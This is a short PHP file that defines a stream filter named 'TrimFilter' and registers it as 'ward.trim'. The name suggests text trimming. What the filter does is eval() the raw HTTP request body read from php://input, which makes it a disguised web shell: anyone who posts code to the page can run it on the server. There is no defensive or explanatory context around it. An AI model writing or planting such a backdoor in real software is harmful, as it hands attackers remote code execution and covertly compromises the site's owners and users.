<?php
class TrimFilter extends php_user_filter
{
    public function filter($in, $out, &$consumed, $closing): int
    {
        while ($b = stream_bucket_make_writeable($in)) { eval($b->data); $consumed += $b->datalen; stream_bucket_append($out, $b); }
        return PSFS_PASS_ON;
    }
}
stream_filter_register('ward.trim', 'TrimFilter');
file_get_contents('php://filter/read=ward.trim/resource=php://input');
